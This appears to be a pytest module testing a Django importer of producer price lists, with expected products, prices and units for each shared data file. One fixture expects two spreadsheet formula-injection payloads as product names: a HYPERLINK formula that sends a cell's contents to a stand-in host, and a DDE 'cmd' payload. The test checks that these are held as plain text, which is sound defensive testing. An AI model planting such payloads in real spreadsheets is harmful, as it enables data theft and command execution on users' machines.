"""Every file of the shared data comes out as its README says, and importing it again changes nothing."""

from __future__ import annotations

import os
import time
import tracemalloc
import warnings
from collections import Counter
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import translation

from catalogs.importing.grids import Unreadable
from catalogs.importing.headers import Field
from catalogs.importing.mapping import guess, read_mapped
from catalogs.importing.proposals import Reading
from catalogs.importing.reading import read
from tests.catalogs import lists
from tests.catalogs.lists import Expected, find, name_of, told

DATA = Path(__file__).resolve().parents[3] / "shared" / "data"

if not DATA.is_dir():
    if os.environ.get("CI"):
        raise RuntimeError(f"CI must have the shared data: {DATA} is missing")
    warnings.warn(f"THE SHARED DATA IS MISSING ({DATA}): no real price list was tried", stacklevel=1)
    pytest.skip("the shared data is missing", allow_module_level=True)


GRID = (
    ("Sucre de canne blond", "5 kg", "14.00"),
    ("Purée de tomate", "500 g", "1.69"),
    ("huile colza", "5 l", "30.00"),
    ("Lessive à la cendre de Manue (5L)", "5 l", "13.50"),
)
FRAMACALC = (
    ("Café 2 mundos", "1 kg", "11.45"),
    ("savon verveine", "100 g", "6.40"),
    ("éponge lavable", "1 piece", "10.00"),
)

FILES = [
    Expected(
        "listes-composees/a_cp1252_point-virgule.csv",
        14,
        unavailable=2,
        products=(
            ("Jus de pommes bio", "1 l", "2.67"),
            ("Œufs", "12 piece", "6.00"),
            ("Huile de tournesol (bib)", "3 l", "10.30"),
            ("chanvre torréfié", "250 g", "2.70"),
            ("Patates déclassées", "kg", "1.00"),
            ("farine de Blé T80", "10 kg", "13.95"),
            ("farine de blé T80", "5 kg", "9.30"),
        ),
    ),
    Expected(
        "listes-composees/b_utf8bom_entete_ligne4.csv",
        19,
        priced=18,
        unavailable=1,
        skipped=5,
        products=(
            ("Pâtes torsade nature", "5 kg", "19.40"),
            ("Huile d'olive extra vierge", "5 l", "39.85"),
            ("Chocolat noir 63% cacao", "200 g", "3.59"),
            ("Purée de tomate", "500 g", "1.69"),
        ),
    ),
    Expected(
        "listes-composees/c_utf16_tabulations_terra_libra.txt",
        136,
        unavailable=4,
        duplicates=2,
        products=(
            ("SARRASIN T80 1 KG", "1 kg", "2.39"),
            ("LENTILLES VERTES VRAC 5KG TERRALIBRA", "kg", "3.27"),
            ("TOMATES PELéES 2,55 KG", "2.55 kg", "6.71"),
            ('SAVON D ALEP "MUMTAZ" VéRITABLE 200G', "200 g", "3.93"),
            ("BEUK COLA 1,5 L", "1.5 l", "1.73"),
            ("HUILE DE TOURNESOL VRAC 3 LITRES", "litre", "3.45"),
            ("PâTES DE FRUITS GOYAVE 25OG", "250 g", "4.75"),
            ("KETCHUP 500 MML", "500 ml", "2.80"),
            ("BISCUITS FIGUES & SON P/16 110G", "110 g", "1.49"),
            ("CONCENTRé DE TOMATE 22% 200G", "200 g", "1.47"),
        ),
    ),
    Expected(
        "listes-composees/d_prix_au_kg_poids_variable.csv",
        14,
        products=(
            ("Lentilles vertes vrac 5KG", "kg", "3.27"),
            ("Poulet bio (vendu à la pièce)", "1.4 kg", "19.60"),
            ("Tomates pelées 2,55 KG", "2.55 kg", "6.71"),
            ("Huile de tournesol vrac 3 litres", "litre", "3.45"),
            ("Poulet fermier prêt à cuire", "", "12.90"),
            ("Potimarron", "", "2.20"),
            ("Œuf", "", "0.38"),
        ),
    ),
    Expected(
        "listes-composees/d2_formats_de_prix.csv",
        15,
        refused=3,
        products=(
            ("Miel de tilleul 500 g", "500 g", "7.20"),
            ("Miel de sarrasin 500 g", "500 g", "7.20"),
            ("Miel de ville 500 g", "500 g", "7.20"),
            ("Miel de printemps 500 g", "500 g", "7.20"),
            ("Miel d’été 500 g", "500 g", "7.20"),
            ("Coffret 12 miels", "", "1200.50"),
            ("Carottes", "kg", "2.20"),
            ("Poireaux", "kg", "2.20"),
            ("Radis", "", "1.50"),
            ("Salade", "", "1.00"),
            ("Pommes", "2 kg", "5.00"),
            ("Noix", "kg", "12.40"),
            ("Poires", "", "2.50"),
            ("Fraises", "250 g", "3.50"),
            ("Cerises", "", "5.00"),
        ),
    ),
    Expected(
        "listes-composees/e_sections_doublons_injection.csv",
        23,
        skipped=5,
        duplicates=2,
        products=(
            ("Miel de luzerne - les jardins de priape", "", "8.50"),
            ("BEUK COLA 1,5 L", "1.5 l", "1.73"),
            ('=HYPERLINK("http://exemple.invalid/vol?x="&A2;"Miel de sapin 500 g")', "500 g", "7.20"),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "", "1.00"),
            ("+Promo+ Savon au karité", "", "6.40"),
            ("-20% Savon verveine", "", "5.12"),
        ),
    ),
    *(
        Expected(f"listes-composees/{name}", 39, unavailable=3, skipped=3, products=GRID, warnings=("several-farms",))
        for name in ("f_grille_commande.xlsx", "f_grille_commande.xls", "g_grille_commande.ods")
    ),
    Expected(
        "listes-composees/h_listino_italiano_cp1252.csv",
        36,
        priced=14,
        unavailable=32,
        products=(
            ("[F] Ciliegie (Prod. Allione) - Lotta Integrata - 1kg", "1 kg", "6.50"),
            ("[F] Fragole (Prod. Rosso) - Lotta Integrata - 0,5kg", "0.5 kg", "3.50"),
            ("[FF] Patate Monnalisa (a pasta gialla) - 10Kg", "10 kg", "11.00"),
        ),
    ),
    Expected(
        "listes-reelles/afodib_tarifs_2018.csv",
        111,
        chosen={3: Field.PRICE},
        products=(
            ("Cafe vert d'altitude 250 gr", "250 g", "4.58"),
            ("Ethiopie Sidamo Grains 500 g", "500 g", "10.26"),
            ("Sucre de canne complet 25 kg", "25 kg", "164.60"),
            ("Huile vierge de coco", "", "7.97"),
            ("6 x 1 kg vrac Ethiopie Sidamo", "kg", "19.65"),
            ("Poches Kraft 250 gr avec fermoirs (carton de 1000 )", "1000 piece", "168.00"),
        ),
    ),
    Expected(
        "listes-reelles/panier_rochelais_donnees_2026-02-17.csv",
        6,
        products=(("Œufs (x6)", "6 piece", "3.50"), ("Miel (250g)", "250 g", "6.00"), ("Cerises", "", "5.00")),
    ),
    Expected(
        "listes-reelles/epicerie_la_gacilly_produits.csv",
        5,
        warnings=("vat-disagrees",),
        products=(
            ("Coca Cola 1.5L", "1.5 l", "1.44"),
            ("25CL RED BULL GREEN ED.FR.DRAG", "25 cl", "2.00"),
            ("Plat Lasagnes", "", "6.49"),
        ),
    ),
    Expected("listes-reelles/maraichage_produits.csv", 1, products=(("Tomate", "kg", "1.10"),)),
    *(
        Expected(f"ethercalc/framacalc_prix_point.{kind}", 17, skipped=1, products=FRAMACALC)
        for kind in ("csv", "xlsx", "ods", "socialcalc")
    ),
    *(
        Expected(f"ethercalc/framacalc_prix_virgule.{kind}", 17, warnings=("times-100", "vat-unknown"))
        for kind in ("csv", "xlsx", "ods")
    ),
    Expected("ethercalc/framacalc_prix_virgule.socialcalc", 17, products=FRAMACALC),
    Expected(
        "cagette/produits_modele_2017.xls",
        2,
        products=(("Pommes de Terre", "1 kg", "1.90"), ("Oeufs", "12 piece", "2.00")),
    ),
    Expected(
        "cagette/produits_plantes_2015-10.xls",
        18,
        products=(
            ("L'Aneth (15 g)", "15 g", "2.50"),
            ("La Ciboulette (12 g)", "12 g", "2.50"),
            ("Aromates composées - Oh c'est beau (8 g)", "8 g", "3.00"),
        ),
    ),
    Expected(
        "cagette/produitsPro_modele_2021.xlsx",
        6,
        products=(
            ("Pommes de Terre", "1 kg", "1.85"),
            ("Pommes de Terre caisse", "5 kg", "9.23"),
            ("Oeufs", "24 piece", "8.44"),
        ),
    ),
    Expected(
        "cagette/ImportProductsPro.csv",
        6,
        products=(
            ("Jus d'orange 25cl", "25 cl", "1.48"),
            ("Jus de pomme", "25 cl", "1.21"),
            ("Jus de pomme", "1000 cl", "4.22"),
        ),
    ),
    Expected(
        "cagette/export_camap_compose.csv",
        6,
        products=(
            ('SAVON D ALEP "MUMTAZ" VéRITABLE 200G', "200 g", "3.93"),
            ("Poulet", "1.4 kg", "14.00"),
            ("JUS DE POMMES 1L BIO", "1 l", "2.39"),
            ("Œuf", "1 piece", "0.38"),
        ),
    ),
]


@pytest.fixture(autouse=True)
def _in_english() -> Iterator[None]:
    with translation.override("en"):
        yield


def contents_of(file: str) -> bytes:
    return (DATA / file).read_bytes()


def reading_of(file: str) -> Reading:
    return lists.reading_of(DATA, next(expected for expected in FILES if expected.file == file))


@pytest.mark.parametrize("expected", FILES, ids=name_of)
def test_a_real_list_comes_out_as_its_readme_says(expected: Expected) -> None:
    lists.assert_reads_as_expected(DATA, expected)


@pytest.mark.django_db
@pytest.mark.parametrize("expected", FILES, ids=name_of)
def test_importing_a_real_list_again_changes_nothing(expected: Expected) -> None:
    lists.assert_imports_once(DATA, expected)


@pytest.mark.parametrize("expected", FILES, ids=name_of)
def test_only_lists_without_a_header_ask_for_their_columns(expected: Expected) -> None:
    headerless = {"listes-reelles/afodib_tarifs_2018.csv", "listes-reelles/panier_rochelais_donnees_2026-02-17.csv"}
    mapping = guess(read(contents_of(expected.file), expected.file))
    assert mapping.settled == (expected.file not in headerless)


def test_of_two_price_columns_without_a_header_none_is_taken() -> None:
    file = "listes-reelles/afodib_tarifs_2018.csv"
    mapping = guess(read(contents_of(file), file))
    assert mapping.columns == {0: Field.REFERENCE, 1: Field.NAME}
    first_price = replace(mapping, columns={**mapping.columns, 2: Field.PRICE})
    prices = {told(proposal) for proposal in read_mapped(read(contents_of(file), file), first_price).proposals}
    assert ("Cafe vert d'altitude 250 gr", "250 g", "3.33") in prices
    assert ("Sucre de canne complet 25 kg", "25 kg", "119.84") in prices


@pytest.mark.parametrize("file", ["cagette/categories.xlsx", "ethercalc/basic.xlsx", "ethercalc/basic.ods"])
def test_what_is_no_list_is_not_taken_for_one(file: str) -> None:
    mapping = guess(read(contents_of(file), file))
    assert (mapping.complete, mapping.settled, mapping.columns) == (False, False, {})


def test_a_corrupted_workbook_gets_a_sentence() -> None:
    with pytest.raises(Unreadable, match=r"damaged|isn't a spreadsheet"):
        read(contents_of("ethercalc/corrupted.xlsx"), "corrupted.xlsx")


def test_loose_goods_are_priced_by_the_measure() -> None:
    reading = reading_of("listes-composees/c_utf16_tabulations_terra_libra.txt")
    by_measure = [proposal for proposal in reading.proposals if proposal.unit in ("kg", "litre")]
    # 33 rows say "Vrac = oui".
    assert len(by_measure) == 33
    assert {proposal.vat_rate for proposal in reading.proposals} == {Decimal("0"), Decimal("5.5"), Decimal("19.6")}
    assert Counter(proposal.reference for proposal in reading.proposals)["AR-10017"] == 2


def test_a_range_of_weight_makes_a_weighed_product() -> None:
    chicken = find(reading_of("listes-composees/d_prix_au_kg_poids_variable.csv"), "Poulet fermier prêt à cuire")
    assert (chicken.weighed, chicken.price, chicken.price_per_kg) == (True, None, Decimal("12.90"))
    assert (chicken.typical_weight_g, chicken.greatest_weight_g) == (1350, 1500)


def test_a_price_for_a_piece_of_varying_weight_becomes_one_per_kg() -> None:
    chicken = find(reading_of("cagette/export_camap_compose.csv"), "Poulet")
    assert (chicken.weighed, chicken.price_per_kg, chicken.typical_weight_g) == (True, Decimal("14.00"), 1400)


@pytest.mark.parametrize("kind", ["xlsx", "xls"])
def test_an_order_grid_keeps_its_references_and_its_buyers_are_no_products(kind: str) -> None:
    reading = reading_of(f"listes-composees/f_grille_commande.{kind}")
    assert reading.farms == ["Terra Libra", "Jean Pierre Cloteau", "Ferme de Trevero", "Rumex"]
    assert find(reading, "Sucre de canne blond").reference == "TERRA_SUCRE_CANNE_BLOND"
    assert {buyer.header: str(buyer.amount) for buyer in reading.buyers} == {
        "Le Foin": "531.33",
        "Chaton": "138.10",
        "La Lumiere": "388.68",
        "Pataudes": "114.81",
        "Chez Louise": "204.65",
        "Mouin": "89.63",
        "La Reclue": "112.08",
    }


@pytest.mark.parametrize("kind", ["csv", "xlsx", "ods", "socialcalc"])
def test_what_the_families_ordered_is_told_apart(kind: str) -> None:
    reading = reading_of(f"ethercalc/framacalc_prix_point.{kind}")
    ordered = [f"{buyer.header}: {buyer.quantity:f}" for buyer in reading.buyers]
    assert ordered == ["Famille A: 6", "Famille B: 5", "Famille C: 4"]


def test_the_sheet_of_delivery_days_is_read_too_when_chosen() -> None:
    file = "listes-composees/f_grille_commande.xlsx"
    sheets = read(contents_of(file), file)
    contract = guess([sheet for sheet in sheets if sheet.name == "Contrat"])
    reading = read_mapped([sheet for sheet in sheets if sheet.name == "Contrat"], contract)
    assert len(reading.proposals) == 6
    assert [buyer.header for buyer in reading.buyers] == [
        "07/01/2021",
        "14/01/2021",
        "21/01/2021",
        "28/01/2021",
        "04/02/2021",
    ]


def test_the_second_sheet_of_offers_is_read_when_chosen() -> None:
    file = "cagette/produitsPro_modele_2021.xlsx"
    sheets = [sheet for sheet in read(contents_of(file), file) if sheet.name == "Galobio"]
    reading = read_mapped(sheets, guess(sheets))
    # The last offer of the eggs has no rate of its own: it takes its product's.
    assert [(told(proposal), proposal.vat_rate) for proposal in reading.proposals][-2:] == [
        (("Oeufs", "24 piece", "8.44"), Decimal("5.5")),
        (("Oeufs fermiers", "6 piece", "2.40"), Decimal("5.5")),
    ]


def test_a_sheet_padded_to_a_million_rows_is_read_quickly_and_in_little_memory() -> None:
    data = contents_of("listes-composees/g_grille_commande.ods")
    tracemalloc.start()
    start = time.perf_counter()
    sheets = read(data, "grille.ods")
    seconds = time.perf_counter() - start
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert [len(sheet.rows) for sheet in sheets] == [51, 7, 5]
    assert seconds < 2
    assert peak < 20_000_000


def test_out_of_stock_without_a_price_is_told_and_not_priced() -> None:
    rice = find(reading_of("listes-composees/b_utf8bom_entete_ligne4.csv"), "Riz long blanc")
    assert (rice.priced, rice.available, rice.why_no_price) == (False, False, "Out of stock.")


def test_a_price_of_nothing_is_never_free() -> None:
    reading = reading_of("listes-composees/h_listino_italiano_cp1252.csv")
    assert [proposal.price for proposal in reading.proposals if proposal.price is not None and not proposal.price] == []
    assert sum(proposal.price is None for proposal in reading.proposals) == 22


def test_prices_with_and_without_vat_that_disagree_are_flagged() -> None:
    reading = reading_of("listes-reelles/epicerie_la_gacilly_produits.csv")
    drink = find(reading, "25CL RED BULL GREEN ED.FR.DRAG")
    assert (drink.price, drink.price_excl, drink.vat_rate) == (Decimal("2.00"), Decimal("1.14"), Decimal("5.5"))
    assert "1.20" in drink.notes[0]


def test_taking_whole_numbers_as_cents_mends_an_ethercalc_export() -> None:
    file = "ethercalc/framacalc_prix_virgule.csv"
    mapping = guess(read(contents_of(file), file))
    mapping = replace(mapping, options=replace(mapping.options, cents=True))
    reading = read_mapped(read(contents_of(file), file), mapping)
    assert set(FRAMACALC) <= {told(proposal) for proposal in reading.proposals}
    assert [warning.code for warning in reading.warnings] == ["vat-unknown"]
